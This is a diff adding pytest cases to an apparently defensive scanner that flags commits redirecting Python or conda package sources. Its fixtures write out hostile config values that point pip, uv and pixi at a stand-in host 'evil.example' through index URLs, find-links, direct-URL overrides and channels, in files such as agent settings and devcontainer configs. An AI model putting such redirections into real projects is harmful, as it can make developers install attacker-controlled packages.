@@ -377,6 +377,26 @@ SETTINGS = {
     "shell export": ("scripts/setup.sh", "#!/bin/sh\n", f"#!/bin/sh\nexport UV_DEFAULT_INDEX=\"{EVIL}\"\n"),
     "from a secret": (".github/workflows/ci.yml", "on: push\n",
                       "on: push\nenv:\n  PIP_INDEX_URL: ${{ secrets.INDEX }}\njobs: {}\n"),
+    "agent settings env": (".claude/settings.json", '{"hooks": {}}\n',
+                           f'{{"env": {{"PIP_INDEX_URL": "{EVIL}"}}, "hooks": {{}}}}\n'),
+    "devcontainer containerEnv": (".devcontainer/devcontainer.json", '{"postCreateCommand": "pip install -e ."}\n',
+                                  f'{{"containerEnv": {{"UV_DEFAULT_INDEX": "{EVIL}"}},\n'
+                                  ' "postCreateCommand": "pip install -e ."}\n'),
+    "[tool.uv.pip] index-url": ("pyproject.toml", HOOK_BASE, f'{HOOK_BASE}\n[tool.uv.pip]\nindex-url = "{EVIL}"\n'),
+    "[tool.uv] pip inline table": ("pyproject.toml", HOOK_BASE,
+                                   f'{HOOK_BASE}\n[tool.uv]\npip = {{ find-links = ["{EVIL}"] }}\n'),
+    "[tool.uv] override URL": ("pyproject.toml", HOOK_BASE, f'{HOOK_BASE}\n[tool.uv]\noverride-dependencies = [\n'
+                               '  "requests @ https://evil.example/requests-9.whl",\n]\n'),
+    "[tool.uv] constraint URL, undeclared": ("pyproject.toml", HOOK_BASE, f'{HOOK_BASE}\n[tool.uv]\n'
+                                             'constraint-dependencies = ["urllib3 @ git+https://evil.example/u"]\n'),
+    "uv.toml override URL": ("uv.toml", "", 'override-dependencies = ["rich @ https://evil.example/rich.whl"]\n'),
+    "pixi.toml [pypi-options]": ("pixi.toml", '[workspace]\nname = "x"\nchannels = ["conda-forge"]\n',
+                                 '[workspace]\nname = "x"\nchannels = ["conda-forge"]\n'
+                                 f'[pypi-options]\nextra-index-urls = ["{EVIL}"]\n'),
+    "pixi.toml channel": ("pixi.toml", '[workspace]\nname = "x"\nchannels = ["conda-forge"]\n',
+                          '[workspace]\nname = "x"\nchannels = ["conda-forge", "https://evil.example/conda"]\n'),
+    "[tool.pixi.feature.t.pypi-options]": ("pyproject.toml", HOOK_BASE, f"{HOOK_BASE}\n[tool.pixi.feature.t]\n"
+                                           f'pypi-options = {{ find-links = [{{ url = "{EVIL}" }}] }}\n'),
 }
 
 
@@ -392,6 +412,32 @@ def test_a_source_set_outside_the_manifests_is_reviewed(repo: Repo, run: Any, ca
     assert "HC043" not in run("--all-files").codes()
     repo.stage({path: after + ("\n" if path.endswith((".conf", ".ini", ".toml")) else "# more\n")})
     assert "HC043" not in run().codes()
+
+
+@pytest.mark.parametrize("table", [
+    '[tool.uv]\noverride-dependencies = ["requests>=2"]\nconstraint-dependencies = ["rich<14"]\n',
+    '[tool.uv.pip]\nindex-url = "https://pypi.org/simple"\n',
+    '[tool.pixi.workspace]\nchannels = ["conda-forge", "nodefaults"]\n',
+])
+def test_a_setting_that_moves_no_package_is_not_reviewed(repo: Repo, run: Any, table: str) -> None:
+    """A version pin, the default index and conda's standard channels choose no other source."""
+    repo.commit({"pyproject.toml": HOOK_BASE})
+    repo.stage({"pyproject.toml": f"{HOOK_BASE}\n{table}"})
+    outcome = run()
+    assert outcome.code == 0 and outcome.codes() == [], outcome.out
+
+
+def test_toml_source_settings_are_placed_and_say_where() -> None:
+    from hallucheck.manifests.source_settings import toml_source_settings
+
+    text = (f'{HOOK_BASE}[tool.uv]\nconstraint-dependencies = ["rich<14", "requests @ https://u:t@h.example/r.whl '
+            f'; python_version < \'3.12\'"]\n[tool.uv.pip]\nextra-index-url = ["{TORCH}", "{EVIL}"]\n')
+    found = [(item.line, item.setting, item.value, where)
+             for item, where in toml_source_settings("a/pyproject.toml", text)]
+    assert found == [(6, "constraint-dependencies", "https://***@h.example/r.whl", "[tool.uv], for `requests`"),
+                     (8, "extra-index-url", TORCH, "[tool.uv.pip]"), (8, "extra-index-url", EVIL, "[tool.uv.pip]")]
+    assert toml_source_settings("pyproject.toml", "[tool.uv.pip\nindex-url = 'x'") == []  # not TOML: not read
+    assert toml_source_settings("setup.cfg", f"[tool.uv.pip]\nindex-url = '{EVIL}'") == []
 
 
 def test_a_confirmed_source_passes_with_the_relaxation_shown(repo: Repo, run: Any) -> None:
